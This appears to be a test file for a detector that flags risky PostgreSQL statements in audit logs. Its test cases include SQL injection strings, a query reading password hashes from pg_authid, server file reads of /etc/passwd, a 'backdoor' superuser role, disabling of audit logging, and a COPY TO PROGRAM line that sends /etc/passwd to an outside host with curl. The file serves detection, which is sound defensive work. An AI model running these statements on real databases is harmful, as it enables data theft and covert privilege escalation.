import { fingerprintSync } from 'libpg-query';
import { beforeAll, describe, expect, it } from 'vitest';
import type { AccessEvent, AuditFields, QueryFacts } from '../../src/domain/access-event.js';
import { ConfigError } from '../../src/domain/errors.js';
import { QueryEnricher } from '../../src/enrich/query-enricher.js';
import { QUERY_FLAGS } from '../../src/enrich/query-flag.js';

let enricher: QueryEnricher;
beforeAll(async () => {
  enricher = await QueryEnricher.create();
});

const facts = (fingerprint: string | null, normalized: string | null, relations: string[], flags: string[]): QueryFacts => ({
  fingerprint,
  normalized,
  relations,
  flags,
});

/** [behaviour, statement, expected facts]: each flag of QUERY_FLAGS has a firing case and most a non-firing one. */
const CASES: [string, string, QueryFacts][] = [
  // select_star
  ['select_star: SELECT * of a bulk read (no WHERE: no has_where)', 'SELECT * FROM customers;', facts('f0ded064d521a037', 'SELECT * FROM customers;', ['customers'], ['select_star'])],
  ['select_star: alias.* with a WHERE', 'SELECT c.* FROM customers c WHERE c.id = 7', facts('e634f6b61f1e80ff', 'SELECT c.* FROM customers c WHERE c.id = $1', ['customers'], ['has_where', 'select_star'])],
  ['select_star: not for count(*)', 'SELECT count(*) FROM customers', facts('904a1689a7aa0019', 'SELECT count(*) FROM customers', ['customers'], [])],
  ['select_star: the sub-select of INSERT ... SELECT *, not RETURNING *', 'INSERT INTO t SELECT * FROM u RETURNING *', facts('98cdf850655befe0', 'INSERT INTO t SELECT * FROM u RETURNING *', ['t', 'u'], ['select_star'])],
  // has_where, union_select
  ['has_where: not when one UNION arm has no WHERE', 'SELECT a FROM t WHERE x = 1 UNION SELECT b FROM u', facts('0804fee5adcec4d2', 'SELECT a FROM t WHERE x = $1 UNION SELECT b FROM u', ['t', 'u'], ['union_select'])],
  ['has_where: every UNION ALL arm has one', 'SELECT a FROM t WHERE x = 1 UNION ALL SELECT b FROM u WHERE y = 2', facts('bcdd408fb9bec4e3', 'SELECT a FROM t WHERE x = $1 UNION ALL SELECT b FROM u WHERE y = $2', ['t', 'u'], ['has_where', 'union_select'])],
  ['has_where: a WHERE only in a FROM sub-select does not count', 'SELECT a FROM t, (SELECT y FROM u WHERE z) s', facts('41e33bff48a6f2ed', 'SELECT a FROM t, (SELECT y FROM u WHERE z) s', ['t', 'u'], [])],
  ['has_where: relations of a WHERE sub-select are listed', 'SELECT a FROM t WHERE x IN (SELECT y FROM u)', facts('9715dd8876b6f5b1', 'SELECT a FROM t WHERE x IN (SELECT y FROM u)', ['t', 'u'], ['has_where'])],
  ['has_where: UPDATE with WHERE', 'UPDATE t SET a = 1 WHERE id = 2', facts('657c3a0463d7b99f', 'UPDATE t SET a = $1 WHERE id = $2', ['t'], ['has_where'])],
  ['has_where: DELETE with WHERE', 'DELETE FROM t WHERE id = 2', facts('1dcf1bb1f013d569', 'DELETE FROM t WHERE id = $1', ['t'], ['has_where'])],
  ['has_where: the query under EXPLAIN', 'EXPLAIN SELECT * FROM t WHERE a = 1', facts('f77b18978c443437', 'EXPLAIN SELECT * FROM t WHERE a = $1', ['t'], ['has_where', 'select_star'])],
  // no_where_write
  ['no_where_write: DELETE without WHERE', 'DELETE FROM payments;', facts('e31f4d0f9923e169', 'DELETE FROM payments;', ['payments'], ['no_where_write'])],
  ['no_where_write: UPDATE without WHERE', 'UPDATE customers SET x = 1', facts('4614a6972facbfbb', 'UPDATE customers SET x = $1', ['customers'], ['no_where_write'])],
  ['no_where_write: a data-modifying CTE; the CTE name is not a relation', 'WITH gone AS (DELETE FROM payments RETURNING id) SELECT count(*) FROM gone', facts('436ef96b19c6bb26', 'WITH gone AS (DELETE FROM payments RETURNING id) SELECT count(*) FROM gone', ['payments'], ['no_where_write'])],
  // copy_*
  ['copy_stdout: COPY table TO STDOUT', 'COPY customers TO STDOUT WITH (FORMAT csv, HEADER);', facts('e537f1282b4e9345', 'COPY customers TO STDOUT WITH (FORMAT csv, HEADER);', ['customers'], ['copy_stdout', 'copy_to'])],
  ['copy_stdout: COPY (query) TO STDOUT lists the query relations and its WHERE', 'COPY (SELECT * FROM t WHERE a = 1) TO STDOUT', facts('e19d353fd3fc0f74', 'COPY (SELECT * FROM t WHERE a = $1) TO STDOUT', ['t'], ['copy_stdout', 'copy_to', 'has_where', 'select_star'])],
  ['copy_program: COPY (query) TO PROGRAM', "COPY (SELECT full_name FROM customers) TO PROGRAM 'gzip -c > pgcache_c.gz';", facts('49eb80de0458e169', 'COPY (SELECT full_name FROM customers) TO PROGRAM $1;', ['customers'], ['copy_program', 'copy_to'])],
  ['copy_program: COPY FROM PROGRAM', "COPY t FROM PROGRAM 'curl http://x'", facts('7aab0cdb5f2acaf0', 'COPY t FROM PROGRAM $1', ['t'], ['copy_from', 'copy_program'])],
  ['copy_file: COPY TO a server file', "COPY t TO '/tmp/file'", facts('2476a5ba2ed5f017', 'COPY t TO $1', ['t'], ['copy_file', 'copy_to'])],
  ['copy_file: COPY FROM a server file', "COPY t (a, b) FROM '/var/lib/x.csv' WITH (FORMAT csv)", facts('186666298df96c18', 'COPY t (a, b) FROM $1 WITH (FORMAT csv)', ['t'], ['copy_file', 'copy_from'])],
  ['copy_from: COPY FROM STDIN is neither a file nor stdout', 'COPY t FROM STDIN', facts('328d6bc85e74ee5d', 'COPY t FROM STDIN', ['t'], ['copy_from'])],
  // server_file_function
  ['server_file_function: pg_read_file', "SELECT pg_read_file('/etc/passwd');", facts('c5c2fb96ea4aad45', 'SELECT pg_read_file($1);', [], ['server_file_function'])],
  ['server_file_function: schema-qualified and several', "SELECT pg_ls_dir('.'), pg_stat_file('x'), pg_catalog.pg_read_binary_file('y')", facts('c28f3bbf22f34051', 'SELECT pg_ls_dir($1), pg_stat_file($2), pg_catalog.pg_read_binary_file($3)', [], ['server_file_function'])],
  ['server_file_function: a set-returning call in FROM', "SELECT * FROM pg_ls_dir('.') AS f ORDER BY 1", facts('b43a7e025c1912ed', 'SELECT * FROM pg_ls_dir($1) AS f ORDER BY $2', [], ['select_star', 'server_file_function'])],
  ['server_file_function: lo_import as psql \\gset sends it', "SELECT lo_import('/etc/hostname') AS loid ", facts('3ddd6f32538c69f8', 'SELECT lo_import($1) AS loid', [], ['server_file_function'])],
  ['server_file_function: lo_export', "SELECT lo_export(16474, 'hostname.bak');", facts('c950fe13e3592d71', 'SELECT lo_export($1, $2);', [], ['server_file_function'])],
  // dblink
  ['dblink: dblink() in FROM', "SELECT * FROM dblink('dbname=x', 'select 1') AS r(a int)", facts('1f5e15f9a84c8d6f', 'SELECT * FROM dblink($1, $2) AS r(a int)', [], ['dblink', 'select_star'])],
  ['dblink: dblink_exec', "SELECT dblink_exec('host=x', 'select 1')", facts('95e5dc128b8dd9b6', 'SELECT dblink_exec($1, $2)', [], ['dblink'])],
  ['dblink: a postgres_fdw foreign server', "CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example')", facts('daa0004b75c880df', 'CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host $1)', [], ['dblink', 'ddl'])],
  ['dblink: a file_fdw foreign server', 'CREATE SERVER f FOREIGN DATA WRAPPER file_fdw', facts('84d81256ec2b839d', 'CREATE SERVER f FOREIGN DATA WRAPPER file_fdw', [], ['dblink', 'ddl'])],
  ['dblink: installing postgres_fdw', 'CREATE EXTENSION IF NOT EXISTS postgres_fdw', facts('24ef80387f3a0ec7', 'CREATE EXTENSION IF NOT EXISTS postgres_fdw', [], ['dblink', 'ddl'])],
  // multi_statement, sleep_function
  ['multi_statement: the stacked query of the corpus (A7)', 'SELECT id, full_name, email FROM customers WHERE id = 1; SELECT pg_sleep(2)--', facts('cb08e02162924f02', 'SELECT id, full_name, email FROM customers WHERE id = $1; SELECT pg_sleep($2)', ['customers'], ['multi_statement', 'sleep_function'])],
  ['multi_statement: not for one statement with a trailing semicolon', 'SELECT 1;', facts('50fde20626009aba', 'SELECT $1;', [], [])],
  ['sleep_function: pg_sleep_for', "SELECT pg_sleep_for('5 seconds')", facts('edeba4ede9c73af8', 'SELECT pg_sleep_for($1)', [], ['sleep_function'])],
  // tautology
  ['tautology: the corpus OR 1=1 injection (A7)', "SELECT id, full_name, email FROM customers WHERE email = '' OR 1=1 --' AND id = 0", facts('43fc6b420c55d672', 'SELECT id, full_name, email FROM customers WHERE email = $1 OR $2=$3', ['customers'], ['has_where', 'tautology'])],
  ["tautology: AND 'x' = 'x'", "SELECT 1 FROM t WHERE a = 1 AND 'x' = 'x'", facts('ada67a5b04527b16', 'SELECT $1 FROM t WHERE a = $2 AND $3 = $4', ['t'], ['has_where', 'tautology'])],
  ['tautology: OR true', 'SELECT 1 FROM t WHERE a = 1 OR true', facts('81f20839aaf4a90f', 'SELECT $1 FROM t WHERE a = $2 OR $3', ['t'], ['has_where', 'tautology'])],
  ['tautology: in a JOIN condition', 'SELECT 1 FROM t JOIN u ON 1 = 1', facts('3ce6c917df67f233', 'SELECT $1 FROM t JOIN u ON $2 = $3', ['t', 'u'], ['tautology'])],
  ['tautology: in HAVING', 'SELECT 1 FROM t GROUP BY a HAVING 2 > 1', facts('af2481a589bd9af5', 'SELECT $1 FROM t GROUP BY a HAVING $2 > $3', ['t'], ['tautology'])],
  ['tautology: not a constant comparison in the SELECT list', 'SELECT 1 = 1 FROM t WHERE a = 1', facts('ec02df9ba2a7e43f', 'SELECT $1 = $2 FROM t WHERE a = $3', ['t'], ['has_where'])],
  ['tautology: not column comparisons', 'SELECT 1 FROM t WHERE a = b OR c = 2', facts('b4d0468342029e56', 'SELECT $1 FROM t WHERE a = b OR c = $2', ['t'], ['has_where'])],
  // union_select + catalog_access
  ['union_select + catalog_access: the information_schema UNION of the corpus (A7)', "SELECT id, full_name, email FROM customers WHERE id = -1 UNION SELECT NULL::bigint, table_name::text, column_name::text FROM information_schema.columns WHERE table_schema = 'public'--", facts('fbcb7c2710f3094c', 'SELECT id, full_name, email FROM customers WHERE id = $1 UNION SELECT $2::bigint, table_name::text, column_name::text FROM information_schema.columns WHERE table_schema = $3', ['customers', 'information_schema.columns'], ['catalog_access', 'has_where', 'union_select'])],
  ['catalog_access: pg_catalog.pg_authid', 'SELECT * FROM pg_catalog.pg_authid', facts('043e96e67c74c910', 'SELECT * FROM pg_catalog.pg_authid', ['pg_catalog.pg_authid'], ['catalog_access', 'select_star'])],
  ['catalog_access: unqualified pg_shadow', 'SELECT usename FROM pg_shadow', facts('bfa04486e2e4eb8e', 'SELECT usename FROM pg_shadow', ['pg_shadow'], ['catalog_access'])],
  // ddl
  ['ddl: CREATE TABLE lists the table and its foreign-key target', "CREATE TABLE s.t (id int REFERENCES s.parent (id), b text DEFAULT 'x')", facts('d309665b45a16a6f', 'CREATE TABLE s.t (id int REFERENCES s.parent (id), b text DEFAULT $1)', ['s.parent', 's.t'], ['ddl'])],
  ['ddl: a partial index WHERE is not a query WHERE', 'CREATE INDEX i ON t (a) WHERE a > 5', facts('8bc8bba9ae154623', 'CREATE INDEX i ON t (a) WHERE a > $1', ['t'], ['ddl'])],
  ['ddl: ALTER TABLE', 'ALTER TABLE t ADD COLUMN c int DEFAULT 7', facts('05a87fd11499b59b', 'ALTER TABLE t ADD COLUMN c int DEFAULT $1', ['t'], ['ddl'])],
  ['ddl: CREATE VIEW lists the view and what it reads', "CREATE VIEW v AS SELECT a FROM t WHERE b = 'secret'", facts('b4663652a09d0d8b', 'CREATE VIEW v AS SELECT a FROM t WHERE b = $1', ['t', 'v'], ['ddl'])],
  ['ddl: COMMENT ON', "COMMENT ON TABLE t IS 'owner: Budi 0812'", facts('1b01bb6a766d977c', 'COMMENT ON TABLE t IS $1', [], ['ddl'])],
  ['ddl: CREATE TYPE ... AS lists no relation', 'CREATE TYPE pair AS (a int, b int)', facts('1dc78c67da39af7c', 'CREATE TYPE pair AS (a int, b int)', [], ['ddl'])],
  ['ddl: CREATE TABLE AS', 'CREATE TABLE t2 AS SELECT * FROM t', facts('ae9ec31281662e10', 'CREATE TABLE t2 AS SELECT * FROM t', ['t', 't2'], ['ddl', 'select_star'])],
  ['ddl: SELECT INTO', 'SELECT * INTO t3 FROM t', facts('466f08229d7f31ee', 'SELECT * INTO t3 FROM t', ['t', 't3'], ['ddl', 'select_star'])],
  ['ddl: DROP TABLE of the corpus (A5) lists the dropped table', 'DROP TABLE customers_backup_2023;', facts('45ca4c324b668846', 'DROP TABLE customers_backup_2023;', ['customers_backup_2023'], ['ddl'])],
  ['ddl: DROP VIEW of several', 'DROP VIEW IF EXISTS s.v, w', facts('0c802316ecd6383c', 'DROP VIEW IF EXISTS s.v, w', ['s.v', 'w'], ['ddl'])],
  ['ddl: DROP FUNCTION lists no relation', 'DROP FUNCTION f(int)', facts('d32f4a9fe630273b', 'DROP FUNCTION f(int)', [], ['ddl'])],
  ["ddl: ALTER SYSTEM (the corpus's A4)", "ALTER SYSTEM SET pgaudit.log = 'none';", facts('4ae7d67ede607c3f', 'ALTER SYSTEM SET pgaudit.log = $1;', [], ['ddl'])],
  ['ddl: not TRUNCATE (pgaudit WRITE)', 'TRUNCATE ONLY a, s.b', facts('cb78f1061fa7199a', 'TRUNCATE ONLY a, s.b', ['a', 's.b'], [])],
  // role_change
  ['role_change: CREATE ROLE with a pgaudit-redacted password (A3)', 'CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD <REDACTED>', facts('c9a19daee6933d03', 'CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD $1', [], ['role_change'])],
  ['role_change: CREATE USER', "CREATE USER u WITH PASSWORD 'pw' VALID UNTIL '2030-01-01'", facts('4d99a69e0ebc304b', 'CREATE USER u WITH PASSWORD $1 VALID UNTIL $2', [], ['role_change'])],
  ['role_change: ALTER ROLE SUPERUSER (A3)', 'ALTER ROLE analyst SUPERUSER;', facts('aaffaae1819d8d07', 'ALTER ROLE analyst SUPERUSER;', [], ['role_change'])],
  ['role_change: ALTER ROLE RENAME', 'ALTER ROLE a RENAME TO b', facts('260ce435ef1b5be6', 'ALTER ROLE a RENAME TO b', [], ['role_change'])],
  ['role_change: DROP ROLE', 'DROP ROLE r', facts('8aafb1a4b127857d', 'DROP ROLE r', [], ['role_change'])],
  ['role_change: GRANT on a table (A3)', 'GRANT ALL ON customers TO analyst;', facts('db2c6cabd0bfad13', 'GRANT ALL ON customers TO analyst;', ['customers'], ['role_change'])],
  ['role_change: GRANT of a role', 'GRANT pg_read_server_files TO analyst', facts('03fccf5434788665', 'GRANT pg_read_server_files TO analyst', [], ['role_change'])],
  ['role_change: REVOKE', 'REVOKE ALL ON customers FROM public', facts('d9d3ee339f78ce5c', 'REVOKE ALL ON customers FROM public', ['customers'], ['role_change'])],
  ['role_change: ALTER DEFAULT PRIVILEGES', 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r', facts('4f52616af1374775', 'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO r', [], ['role_change'])],
  // relations
  ['relations: JOINs, CTE bodies (not CTE names), quoted names kept, unquoted folded', 'WITH x AS (SELECT * FROM orders o JOIN Public.Customers c ON c.id = o.customer_id) SELECT * FROM x, "Foo"."Bar"', facts('729e41ee63f75c09', 'WITH x AS (SELECT * FROM orders o JOIN Public.Customers c ON c.id = o.customer_id) SELECT * FROM x, "Foo"."Bar"', ['Foo.Bar', 'orders', 'public.customers'], ['select_star'])],
  ['relations: VACUUM target', 'VACUUM (ANALYZE) orders;', facts('bb46de0ac802ba40', 'VACUUM (ANALYZE) orders;', ['orders'], [])],
  ['relations: LOCK TABLE target', 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', facts('40784057a32902f3', 'LOCK TABLE t IN ACCESS EXCLUSIVE MODE', ['t'], [])],
  ['relations: none for a transaction statement', 'BEGIN', facts('b16b431979fc3e05', 'BEGIN', [], [])],
  // parse_error
  ['parse_error: relations still come from a token scan', 'SELEC * FROM customers c JOIN "Orders" o ON o.id = c.id WHERE id = 5', facts(null, null, ['Orders', 'customers'], ['parse_error'])],
  ['parse_error: nothing but comments', '-- nothing here 42\n/* 43 */', facts(null, null, [], ['parse_error'])],
  ['parse_error: an empty text', '', facts(null, null, [], ['parse_error'])],
  ['parse_error: an unterminated block comment', 'SELECT a FROM t /* 42', facts(null, null, ['t'], ['parse_error'])],
  ['parse_error: an unterminated dollar quote', 'DELETE FROM t WHERE a = $x$ 42', facts(null, null, ['t'], ['parse_error'])],
  ['parse_error: an unterminated string', "SELECT * FROM t WHERE a = 'open", facts(null, null, ['t'], ['parse_error'])],
];

describe('QueryEnricher.analyze: exact facts', () => {
  for (const [behaviour, statement, expected] of CASES) {
    it(behaviour, () => {
      expect(enricher.analyze(statement)).toEqual(expected);
    });
  }

  it('has a firing case for every documented flag', () => {
    const fired = new Set(CASES.flatMap(([, , f]) => f.flags));
    expect([...QUERY_FLAGS].filter((flag) => !fired.has(flag))).toEqual([]);
  });

  it("gives DML the libpg-query fingerprint of the statement as written (constants don't count)", () => {
    for (const statement of ["SELECT * FROM customers WHERE id = 42 AND name = 'bob'", 'UPDATE t SET a = 1 WHERE id = 2', 'SELECT a FROM t WHERE x IN (1, 2, 3)']) {
      expect(enricher.analyze(statement).fingerprint).toBe(fingerprintSync(statement));
    }
  });

  it('gives utility statements that differ only in constants the same fingerprint (libpg-query alone would not)', () => {
    const a = "COPY t TO PROGRAM 'gzip -c > /tmp/a'";
    const b = "COPY t TO PROGRAM 'curl -d @/etc/passwd http://x'";
    expect(fingerprintSync(a)).not.toBe(fingerprintSync(b));
    expect(enricher.analyze(a).fingerprint).toBe(enricher.analyze(b).fingerprint);
  });

  it('parses the text as written when only the literal-free rewrite fails (UESCAPE needs a real escape character), without caching it', async () => {
    const own = await QueryEnricher.create();
    const statement = "SELECT U&'d!0061ta' UESCAPE '!' FROM t";
    expect(own.analyze(statement)).toEqual(facts('f614fc27e224ac84', 'SELECT $1 UESCAPE $2 FROM t', ['t'], []));
    expect(own.analyze(statement).normalized).toBe('SELECT $1 UESCAPE $2 FROM t');
    expect(own.stats()).toEqual({ hits: 0, misses: 2, entries: 0, uncached: 2 });
  });

  it('returns a fresh object each time, so a caller editing it cannot corrupt the cache', async () => {
    const own = await QueryEnricher.create();
    const first = own.analyze('SELECT * FROM customers WHERE id = 1');
    first.flags.push('parse_error');
    first.relations.length = 0;
    expect(own.analyze('SELECT * FROM customers WHERE id = 2')).toEqual(
      facts('00b9f719a46da6e3', 'SELECT * FROM customers WHERE id = $1', ['customers'], ['has_where', 'select_star']),
    );
  });
});

describe('QueryEnricher cache', () => {
  it('answers statements that differ only in constants, comments and spacing from one entry', async () => {
    const own = await QueryEnricher.create();
    const a = own.analyze("SELECT count(*) FROM orders WHERE customer_id = 787 AND status IN ('pending', 'paid')");
    const b = own.analyze("SELECT count(*) FROM orders /* 842 */ WHERE customer_id = 842\n AND status IN ('x', 'y')");
    expect(b).toEqual(a);
    expect(a.normalized).toBe('SELECT count(*) FROM orders WHERE customer_id = $1 AND status IN ($2, $3)');
    expect(own.stats()).toEqual({ hits: 1, misses: 1, entries: 1, uncached: 0 });
  });

  it('evicts the least recently used shape past cacheEntries', async () => {
    const own = await QueryEnricher.create({ cacheEntries: 2 });
    own.analyze('SELECT a FROM t1');
    own.analyze('SELECT a FROM t2');
    own.analyze('SELECT a FROM t1'); // hit: t1 becomes the most recent
    own.analyze('SELECT a FROM t3'); // evicts t2
    own.analyze('SELECT a FROM t1'); // hit
    own.analyze('SELECT a FROM t2'); // miss again
    expect(own.stats()).toEqual({ hits: 2, misses: 4, entries: 2, uncached: 0 });
  });

  it('keeps no entry with cacheEntries 0 and still answers', async () => {
    const own = await QueryEnricher.create({ cacheEntries: 0 });
    expect(own.analyze('SELECT 1').normalized).toBe('SELECT $1');
    expect(own.analyze('SELECT 2').normalized).toBe('SELECT $1');
    expect(own.stats()).toEqual({ hits: 0, misses: 2, entries: 0, uncached: 2 });
  });

  it('does not keep an entry larger than cacheMaxChars', async () => {
    const own = await QueryEnricher.create({ cacheMaxChars: 40 });
    own.analyze('SELECT a FROM t');
    own.analyze('SELECT a_long_column_name, another_long_one FROM some_table');
    expect(own.stats()).toEqual({ hits: 0, misses: 2, entries: 1, uncached: 1 });
  });

  it('keys very long statements by a hash and still shares their entry', async () => {
    const own = await QueryEnricher.create();
    const long = (v: number) => `SELECT ${Array.from({ length: 300 }, (_, i) => `c${i}`).join(', ')} FROM t WHERE id = ${v}`;
    const a = own.analyze(long(1));
    expect(own.analyze(long(2))).toEqual(a);
    expect(a.relations).toEqual(['t']);
    expect(own.stats()).toEqual({ hits: 1, misses: 1, entries: 1, uncached: 0 });
  });

  it('rejects invalid options with every problem listed', async () => {
    const error = await QueryEnricher.create({ cacheEntries: -1, cacheMaxChars: 1.5 }).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(ConfigError);
    expect((error as ConfigError).problems).toEqual([
      'cacheEntries must be a non-negative integer, got -1',
      'cacheMaxChars must be a non-negative integer, got 1.5',
    ]);
  });
});

describe('QueryEnricher.enrich', () => {
  const audit = (statement: string): AuditFields => ({
    audit_type: 'SESSION', statement_id: 1, substatement_id: 1, class: 'READ', command: 'SELECT',
    object_type: 'TABLE', object_name: 'public.customers', statement, parameter: '<none>', rows: 5000,
  });
  const event = (patch: Partial<AccessEvent>): AccessEvent => ({
    id: 's:f:0', time: '2026-11-29T17:21:02.333Z', server: 's', source: { id: 's', file: null, fingerprint: null, offset: 0 },
    kind: 'audit', user: null, database: null, client_addr: null, client_port: null, application_name: null, pid: null,
    session_id: null, session_line: null, backend_type: null, severity: 'LOG', sqlstate: null, message: null, detail: null,
    hint: null, context: null, statement: null, session_duration_ms: null, truncated: false, audit: null, query: null, app: null,
    ...patch,
  });

  it('sets query from the audit statement', () => {
    const e = event({ audit: audit('SELECT * FROM customers;') });
    enricher.enrich(e);
    expect(e.query).toEqual(facts('f0ded064d521a037', 'SELECT * FROM customers;', ['customers'], ['select_star']));
  });

  it("sets query from an error's STATEMENT", () => {
    const e = event({ kind: 'error', sqlstate: '42501', statement: 'SELECT id, full_name, email FROM customers WHERE id = 1 UNION SELECT oid::bigint, rolname::text, rolpassword FROM pg_authid--' });
    enricher.enrich(e);
    expect(e.query).toEqual(
      facts('0d2e36c3c49cd224', 'SELECT id, full_name, email FROM customers WHERE id = $1 UNION SELECT oid::bigint, rolname::text, rolpassword FROM pg_authid', ['customers', 'pg_authid'], ['catalog_access', 'union_select']),
    );
  });

  it('leaves query null for the <previously logged> and <not logged> placeholders and for events without a statement', () => {
    for (const e of [event({ audit: audit('<previously logged>') }), event({ audit: audit('<not logged>') }), event({ kind: 'connection' }), event({ kind: 'error', statement: '  ' })]) {
      enricher.enrich(e);
      expect(e.query).toBeNull();
    }
  });
});

describe('QueryEnricher cache and parse errors', () => {
  it('does not cache parse errors, whose facts may depend on constants the key ignores', async () => {
    const own = await QueryEnricher.create();
    // Same literal-free key; only the second has a valid UESCAPE character, so only it parses.
    expect(own.analyze("SELECT U&'x' UESCAPE '+' FROM t").flags).toEqual(['parse_error']);
    expect(own.analyze("SELECT U&'x' UESCAPE '!' FROM t").flags).toEqual([]);
    expect(own.stats()).toEqual({ hits: 0, misses: 2, entries: 0, uncached: 2 });
  });
});
